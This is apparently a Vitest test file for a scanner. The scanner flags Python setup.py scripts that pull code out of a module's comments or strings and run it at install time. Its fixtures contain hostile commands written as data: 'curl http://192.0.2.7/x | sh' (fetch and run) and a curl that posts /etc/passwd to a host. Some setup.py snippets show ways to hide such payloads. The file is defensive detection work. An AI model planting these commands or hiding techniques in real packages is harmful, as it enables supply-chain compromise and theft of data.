import { expect, test } from 'vitest';
import { analysedTree } from './analysed-tree.js';

const FETCHES = '__import__("os").system("curl http://192.0.2.7/x | sh")';
const SETUP = (runs: string): string => `import re\nfrom setuptools import setup\nread = open("plot/__init__.py").read()\n${runs}\nsetup(name="plot", version="1.0", packages=["plot"])\n`;

/** The rules that speak of the module when a build script runs pieces of it so. */
async function told(runs: string, module: string): Promise<{ readonly critical: readonly string[]; readonly unread: readonly string[] }> {
  const { findings, gaps } = await analysedTree({ 'setup.py': Buffer.from(SETUP(runs)), 'plot/__init__.py': Buffer.from(module) });
  return { critical: [...new Set(findings.filter(({ severity, file }) => severity === 'critical' && file === 'plot/__init__.py').map(({ rule, line }) => `${rule} ${line}`))], unread: gaps.map(({ why }) => why) };
}

const found = ['download-then-run 3', 'drop-host-contact 3'];

test.each([
  ['a pattern', 'version = eval(re.search("# v: (.*)", read).group(1))', `"""Plots."""\n\n# v: ${FETCHES}\n`],
  ['a pattern that is made before', 'version = eval(re.compile("# v: (.*)").search(read).group(1))', `"""Plots."""\n\n# v: ${FETCHES}\n`],
  ['a mark', 'exec(read.split("# v: ")[1])', `"""Plots."""\n\n# v: ${FETCHES}\n`],
  ['a mark whose end is told', 'exec(read.partition("# v: ")[2].partition("#")[0])', `"""Plots."""\n\n# v: ${FETCHES}\n# end\n`],
  ['a mark, and turned round', 'exec(read.split("# v: ")[1][::-1])', `"""Plots."""\n\n# v: ${Array.from(FETCHES).toReversed().join('')}\n`],
  ['a search for files', 'import glob\nfor path in glob.glob("plot/*.py"):\n    exec(open(path).read().split("# v: ")[1])', `"""Plots."""\n\n# v: ${FETCHES}\n`],
  ['asking for the source of a module', 'import inspect, plot\nexec(inspect.getsource(plot).split("# v: ")[1])', `"""Plots."""\n\n# v: ${FETCHES}\n`],
  ['asking for the comment on a function', 'import inspect, plot\nexec(inspect.getcomments(plot.draw)[5:])', `"""Plots."""\n\n# v: ${FETCHES}\ndef draw(): pass\n`],
  ['lines that begin so', 'for line in open("plot/__init__.py"):\n    if line.startswith("#! "):\n        exec(line[3:])', `"""Plots."""\n\n#! ${FETCHES}\n`],
  ['a line of a text', 'exec(read.split("\\n")[2].strip())', `"""Plots.\n\n   ${FETCHES}\n"""\n`],
  ['a line of a function', 'exec(read.split("\\n")[2].strip())', `def never():\n    if False:\n        ${FETCHES}\n`],
])('a build script that cuts code out of a module runs what stands in its comments and texts: by %s', async (_, runs, module) => {
  expect(await told(runs, module)).toMatchObject({ critical: found });
});

test('comments below one another, and a long text, are read as one piece of code each', async () => {
  const lines = ['import os', 'run = os.system', 'run("curl http://192.0.2.7/x | sh")'];
  const cuts = 'exec(read.split("begin")[1].split("end")[0].replace("# ", ""))';
  expect((await told(cuts, `# begin\n${lines.map((line) => `# ${line}\n`).join('')}# end\n`)).critical).toContain('download-then-run 4');
  expect((await told('exec(read.split(chr(34) * 3)[1])', `"""\n${lines.join('\n')}\n"""\n`)).critical).toContain('download-then-run 4');
});

test.each(['os.system(re.search("# v: (.*)", read).group(1))', 'os.system("sh -c " + read.split("# v: ")[1])', 'subprocess.Popen(read.split("# v: ")[1], shell=True)'])('a command that is cut out of a module is read as one: %s', async (runs) => {
  const module = '"""Plots."""\n\n# v: curl http://192.0.2.7/x | sh\n';
  expect((await told(`import os, subprocess\n${runs}`, module)).critical).toEqual(['script-commands 3']);
});

test('what a comment says of how something is installed is no command where the module is only started', async () => {
  const module = '"""Plots."""\n\n# Get it by: curl http://192.0.2.7/x | sh\n';
  expect(await told('import subprocess, sys\nsubprocess.call([sys.executable, "plot/__init__.py"])', module)).toEqual({ critical: [], unread: [] });
});

test('a module that a version is read from by a pattern for one line does no more than be imported', async () => {
  const module = 'import os\nimport socket\n\n# os.system("rm -rf build")\n__version__ = "1.0"\n\n\ndef main():\n    socket.create_connection((os.environ["HOST"], 80))\n\n\nif __name__ == "__main__":\n    main()\n';
  expect(await told('version = eval(re.search("__version__ = (.*)", read).group(1))', module)).toEqual({ critical: [], unread: [] });
  // The whole of it is a script to whoever runs it as one.
  expect((await told('exec(read)', module)).critical).not.toEqual([]);
});

const SCRIPT = 'import subprocess\n\n__version__ = "1.0"\n\n\ndef main():\n    subprocess.call(["fast-dump", "-V"])\n\n\nif __name__ == "__main__":\n    main()\n';
const started = async (runs: string): Promise<readonly string[]> => {
  const { findings } = await analysedTree({ 'setup.py': Buffer.from(SETUP(runs)), 'plot/__init__.py': Buffer.from(SCRIPT) });
  return findings.filter(({ rule }) => rule === 'process-at-install').map(({ severity }) => severity);
};
const IS_VERSION = 'lambda line: line.startswith("__version__")';

test.each([
  `exec(list(filter(${IS_VERSION}, open("plot/__init__.py").read().split("\\n")))[0])`,
  'exec([line for line in open("plot/__init__.py") if line.startswith("__version__")][0])',
  'import io\nexec([line for line in io.open("plot/__init__.py").readlines() if "__version__" in line][-1])',
  'exec(open("plot/__init__.py").read().splitlines()[2])',
])('a module of which one line is run is not run as a whole: %s', async (runs) => {
  expect(await started(runs)).toEqual([]);
});

test.each([
  'exec("\\n".join(line for line in open("plot/__init__.py")))',
  'exec(open("plot/__init__.py").read().split("#!")[0])',
  'def list(lines):\n    return ["\\n".join(lines)]\nexec(list(open("plot/__init__.py"))[0])',
  'class Text:\n    def __init__(self, text):\n        self.text = text\n    def splitlines(self):\n        return [self.text]\nexec(Text(open("plot/__init__.py").read()).splitlines()[0])',
  'exec([line + rest for line in open("plot/__init__.py")][0])',
])('a module that may run as a whole is judged so: %s', async (runs) => {
  expect(await started(runs)).not.toEqual([]);
});

test('a pattern that goes beyond a line may give the whole of a module', async () => {
  const module = `import os\n\n\ndef main():\n    os.popen("curl -d @/etc/passwd " + os.environ["HOST"])\n\n\nif __name__ == "__main__":\n    main()\n`;
  for (const pattern of ['(?s)(.*)', '[^z]*', '(\\\\D*)']) expect((await told(`exec(re.search("${pattern}", read).group())`, module)).critical).not.toEqual([]);
  expect((await told('exec(re.search("(.*)", read, re.DOTALL).group())', module)).critical).not.toEqual([]);
});

test('more pieces than anybody needs are told, and so is a file too large to be cut', async () => {
  const many = Array.from({ length: 400 }, (_, index) => `# os.system("true ${index}")\n\n`).join('');
  expect((await told('exec(read.split("# v: ")[1])', many)).unread).toEqual([expect.stringContaining('only 300 were read')]);
  expect((await told('exec(read.split("# v: ")[1])', `# ${'-'.repeat(1_100_000)}\n`)).unread).toEqual([expect.stringContaining('cannot be told from one another')]);
});

test('what is only read, or run by somebody who asks for it, is not cut into pieces', async () => {
  const module = `"""Plots."""\n\n# v: ${FETCHES}\n`;
  expect(await told('version = re.search("# v: (.*)", read).group(1)', module)).toEqual({ critical: [], unread: [] });
  expect(await told('def later():\n    exec(read.split("# v: ")[1])', module)).toEqual({ critical: [], unread: [] });
});

test('a long line of names with dots between them is looked through once', async () => {
  expect(await told('exec(read.split("# v: ")[1])', `# ${'a.'.repeat(48_000)}os\n\n`.repeat(3))).toEqual({ critical: [], unread: [] });
}, 10_000);
